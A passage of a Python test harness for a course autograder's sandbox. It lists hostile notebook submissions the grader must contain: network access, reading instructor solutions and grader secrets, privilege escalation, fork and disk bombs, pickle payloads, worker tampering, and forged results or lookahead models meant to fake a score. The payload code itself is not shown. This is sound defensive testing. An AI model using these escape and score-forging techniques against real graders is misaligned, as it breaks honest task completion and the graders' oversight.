def check_lookahead(g: Graded, env: Env) -> None:
    from course.corpus import load_course_corpus

    extra = g.results["extra_data"]
    vocab = len(set(load_course_corpus(load_config()).train))
    assert extra["threshold_steps"] == load_config().threshold.steps  # the forged step count is believed...
    assert abs(extra["perplexity"] - vocab) < 1e-6 * vocab, extra  # ...but uniform logits score exactly V
    assert "LOOKAHEAD calls=0 candidates=[]" in g.feedback and "LOOKAHEAD calls=700 candidates=[]" in g.feedback
    assert not extra["suspicious"]
    _all_failed(g, "threshold")


def check_recursion(g: Graded, env: Env) -> None:
    _all_failed(g, "build_vocab")
    _all_failed(g, "encode")


# --- the registry ------------------------------------------------------------------------------------------

BWRAP, UNSHARE = IsolationLevel.BWRAP, IsolationLevel.UNSHARE

ENTRIES: list[Entry] = [
    # read and assembly: refused or neutralised before any code runs
    Entry("rejected-100000-cells", notebook(_many_cells), "rejected", 0.0, ("100,000 cells",)),
    Entry("rejected-invalid-utf8", raw(_invalid_utf8), "rejected", 0.0, ("not UTF-8 text",)),
    Entry("rejected-nbformat-3-notebook", notebook(_nbformat3), "rejected", 0.0, ("nbformat version 3",)),
    Entry("rejected-kernel-in-another-language", notebook(_julia), "rejected", 0.0, ("kernel is 'julia'",)),
    Entry("rejected-json-nesting-bomb", raw(_nesting_bomb), "rejected", 0.0, ("JSON is broken",)),
    Entry("rejected-three-10mb-cells-over-the-size-cap", notebook(_three_10mb_cells), "rejected", 0.0,
          ("notebooks up to 20 MB",)),
    Entry("rejected-symlink-to-the-instructor-solution", _symlink, "rejected", 0.0, ("symbolic link",)),
    Entry("rejected-empty-file", raw(lambda env: b""), "rejected", 0.0, ("JSON is broken",)),
    Entry("rejected-utf16-notebook", raw(lambda env: _release_bytes().decode().encode("utf-16")), "rejected", 0.0,
          ("not UTF-8 text (byte 0)",)),
    Entry("rejected-cells-that-are-not-a-list", raw(lambda env: b'{"nbformat": 4, "cells": {"0": {}}, "metadata": {}}'),
          "rejected", 0.0, ("no list of cells",)),
    Entry("rejected-answer-cell-of-an-unknown-type", notebook(_unknown_cell_type), "rejected", 0.0,
          ("unknown cell type",)),
    Entry("rejected-file-named-gradebook-csv-keeps-the-gradebook", raw(lambda env: b"not a notebook"), "rejected",
          0.0, ("JSON is broken",), lambda g, env: _gradebook_is_a_file(env), file="gradebook.csv.ipynb"),
    Entry("graded-duplicated-grade-ids-first-cell-wins", notebook(_duplicated_ids), "graded", 0.0,
          ("Several cells carry the answer id `MyRNN`; the first that can run",),
          lambda g, env: _no_file(env, "duplicated-setup")),
    Entry("graded-10mb-answer-cell-is-not-run", notebook(_huge_answer), "graded", 0.0,
          ("characters (at most 200,000); it is not run",), lambda g, env: _no_file(env, "huge-cell-ran")),
    # network
    Entry("hostile-network-tcp-udp-dns-and-abstract-sockets-reach-nothing", attack(MyRNN=TCP, lstm_cell=DNS),
          check=check_network, min_level=UNSHARE),
    # the grader's files, processes and secrets
    Entry("hostile-repository-and-solutions-are-out-of-reach", attack(MyRNN=READ_REPO, lstm_cell=SEARCH_FS),
          check=check_search, min_level=BWRAP),
    Entry("hostile-grader-processes-environment-and-secrets-out-of-sight",
          attack(MyRNN=GRADER_PROCS, lstm_cell=ENVIRON), check=check_environ, min_level=BWRAP),
    Entry("hostile-writes-outside-and-privilege-escalation-reach-nothing",
          attack(MyRNN=WRITE_OUTSIDE, lstm_cell=PRIVILEGE), check=check_privilege, min_level=BWRAP),
    # resources
    Entry("hostile-fork-bomb-stopped-by-the-process-limit", attack(MyRNN=FORK_BOMB), check=check_fork_bomb,
          skip_reason=process_bound_reason),
    Entry("hostile-thread-and-fd-bombs-stopped-by-limits", attack(MyRNN=THREAD_BOMB, lstm_cell=FD_BOMB),
          check=check_thread_and_fd_bombs, skip_reason=process_bound_reason),
    Entry("hostile-10gb-file-and-filled-disks-stop-at-limits", attack(MyRNN=BIG_FILE, lstm_cell=FILL_DISKS),
          check=check_big_files, min_level=BWRAP),
    Entry("hostile-1gb-of-output-is-capped", attack(MyRNN=OUTPUT_FLOOD), check=check_output_flood),
    Entry("hostile-setsid-daemon-ignoring-signals-is-killed", attack(MyRNN=DAEMON), check=check_daemon),
    Entry("hostile-signal-games-and-kill-all-reach-nothing", attack(MyRNN=SIGNAL_GAMES, lstm_cell=KILL_EVERYTHING),
          check=check_signals, min_level=UNSHARE),
    # data crossing the boundary
    Entry("hostile-pickle-payloads-are-never-loaded", attack(MyRNN=PICKLE_FILES, lstm_cell=PICKLE_FRAME),
          messages=("malformed data", "dtype 'object' is not allowed"), check=check_pickles),
    Entry("hostile-recursion-bombs-in-cells-and-returned-structures-fail-cleanly",
          attack(MyRNN=SEGFAULT, lstm_cell=RECURSION_LIMIT, build_vocab=RECURSIVE_RETURN, encode=RECURSIVE_TENSOR),
          messages=("killed by SIGSEGV", "RecursionError", "should be a torch.Tensor; got __main__.Endless"),
          check=check_recursion),
    Entry("hostile-248mb-nan-inf-and-unreadable-replies-fail-cleanly",
          attack(lstm_cell=NAN_TENSORS, to_batch_first=EXPANDED_TENSOR, batch_sequences=COMPLEX_TENSOR,
                 encode=HUGE_REPLY),
          messages=("contains NaN or infinity", "could not be read back (dtype torch.float32)",
                    "could not be read back (dtype torch.complex64)", "62000000 elements (at most 4194304)"),
          check=check_huge_reply),
    Entry("hostile-rewritten-worker-runtime-gains-nothing", attack(MyRNN=TAMPER_WORKER)),
    Entry("hostile-lying-torch-function-and-patched-grad-mode-gain-nothing",
          attack(train_epoch=FORGED_FLAGS_TRAIN, perplexity=FORGED_FLAGS_PERPLEXITY),
          check=lambda g, env: (_all_failed(g, "train_epoch"), _all_failed(g, "perplexity"))),
    Entry("hostile-exceptions-with-lone-surrogates-and-broken-str-are-reported",
          attack(MyRNN=SURROGATE, lstm_cell=BROKEN_STR, to_batch_first=HUGE_MESSAGE),
          messages=("a lone surrogate \ufffd in the message", "Unprintable: <message could not be shown>",
                    "RuntimeError: AAAA"), check=lambda g, env: _short(g)),
    # the grader-run training (graded with the threshold stage)
    Entry("hostile-threshold-lookahead-and-forged-steps-score-uniform",
          attack(CharLSTM=LOOKAHEAD_MODEL, train_epoch=FORGED_STEPS), score=None, check=check_lookahead,
          threshold=True, min_level=BWRAP),
    Entry("hostile-threshold-nan-logits-are-refused", attack(CharLSTM=NAN_MODEL, train_epoch=FORGED_STEPS),
          messages=("logits contain NaN or infinity",), threshold=True),
]


def _no_file(env: Env, name: str) -> None:
    assert not (Path(env.canary_dir) / name).exists(), name


def _all_failed(g: Graded, tag: str) -> None:
    assert g.tests_tagged(tag) and all(t["status"] == "failed" for t in g.tests_tagged(tag))


def _short(g: Graded) -> None:
    assert len(json.dumps(g.results)) < 50_000  # a 50 MB message is cut to a few kB


def _gradebook_is_a_file(env: Env) -> None:
    assert (Path(env.out_dir) / "gradebook.csv").is_file()


# --- harness helpers ----------------------------------------------------------------------------------------


def parse_verdicts(output: str) -> dict[str, dict[str, Any]]:
    """cell id -> the JSON an attack cell reported through its RuntimeError."""
    return {cell: json.loads(body) for cell, body in VERDICT_RE.findall(output)}


def read_graded(out: Path, sub_id: str) -> Graded:
    results = json.loads((out / sub_id / "results.json").read_text(encoding="utf-8"))
    feedback = (out / sub_id / "feedback.md").read_text(encoding="utf-8")
    return Graded(results, feedback, parse_verdicts(results["output"]))


def processes_with(marker: str) -> list[str]:
    """'pid: cmdline' of every process whose command line or environment holds ``marker``."""
    found = []
    needle = marker.encode()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        for what in ("cmdline", "environ"):
            try:
                data = Path(f"/proc/{entry}/{what}").read_bytes()
            except OSError:
                continue
            if needle in data:
                cmd = Path(f"/proc/{entry}/cmdline").read_bytes() if what == "environ" else data
                shown = cmd.replace(b"\0", b" ")[:200].decode(errors="replace")
                found.append(f"{entry}: {shown}")
                break
    return found


def survivors(marker: str, grace_s: float = 10.0) -> list[str]:
    """Processes still carrying ``marker`` after ``grace_s`` seconds (dying ones get the time to go)."""
    end = time.monotonic() + grace_s
    found = processes_with(marker)
    while found and time.monotonic() < end:
        time.sleep(0.2)
        found = processes_with(marker)
    return found


def copy_repository(dest: Path) -> Path:
    """A private copy of the repository's files (tracked, and untracked but not ignored) to grade from.

    `python -m course` run from the copy imports the copy's course package and reads its
    configuration, hidden checks and notebooks: the grader's files are then exactly the copy's,
    untouched by anyone else while a campaign runs.
    """
    listed = subprocess.run(["git", "ls-files", "-co", "--exclude-standard"], cwd=REPO, capture_output=True, text=True,
                            check=True).stdout.splitlines()
    for rel in listed:
        if (REPO / rel).is_file() and not (REPO / rel).is_symlink():
            (dest / rel).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(REPO / rel, dest / rel)
    return dest


def hash_tree(root: Path) -> dict[str, str]:
    """sha256 of every file under ``root`` (symbolic links by their target), by relative path."""
    found = {}
    for path in sorted(root.rglob("*")):
        if path.is_symlink():
            found[str(path.relative_to(root))] = "link:" + os.readlink(path)
        elif path.is_file():
            found[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def run_once(tmp_path_factory, name: str, compute: Callable[[Path], dict[str, Any]]) -> dict[str, Any]:
    """``compute(folder)`` once per test session, even across xdist workers; its JSON result is shared.

    xdist can spread the tests of one group over its workers, so each worker asks here: the
    first one computes under a lock and saves the result, the others wait for it and read it.
    """
    root = tmp_path_factory.getbasetemp()
    if os.environ.get("PYTEST_XDIST_WORKER"):
        root = root.parent  # shared by the workers of one session
    saved = root / f"{name}.json"
    with open(root / f"{name}.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if not saved.exists():
            folder = root / name
            folder.mkdir()
            saved.write_text(json.dumps(compute(folder)))
    return json.loads(saved.read_text())


@dataclass
class GraderRun:
    """One `course grade` subprocess: its exit code, output and peak resident memory."""

    code: int
    output: str
    peak_rss_kb: int = 0
    seconds: float = 0.0
    extra: dict[str, Any] = field(default_factory=dict)


def run_course_grade(paths: list[Path], out: Path, env: dict[str, str], jobs: int = 2, threshold: bool = False,
                     resume: bool = False, require_isolation: bool = False, repo: Path = REPO,
                     timeout_s: float = 1500) -> GraderRun:
    """Run `python -m course grade` from ``repo`` as a subprocess and watch its peak memory (VmHWM)."""
    import sys

    cmd = [sys.executable, "-m", "course", "grade", *map(str, paths), "--out", str(out), "--jobs", str(jobs)]
    cmd += [] if threshold else ["--no-threshold"]
    cmd += ["--resume"] if resume else []
    cmd += ["--require-isolation"] if require_isolation else []
    log = out.parent / f"{out.name}.log"
    began = time.monotonic()
    with open(log, "wb") as fh:
        proc = subprocess.Popen(cmd, cwd=repo, env=env, stdout=fh, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
        peak = 0
        while proc.poll() is None:
            try:
                for line in Path(f"/proc/{proc.pid}/status").read_text().splitlines():
                    if line.startswith("VmHWM:"):
                        peak = max(peak, int(line.split()[1]))
            except (OSError, ValueError):
                pass
            if time.monotonic() - began > timeout_s:
                proc.kill()
            time.sleep(0.25)
    return GraderRun(proc.returncode, log.read_text(errors="replace"), peak, time.monotonic() - began)
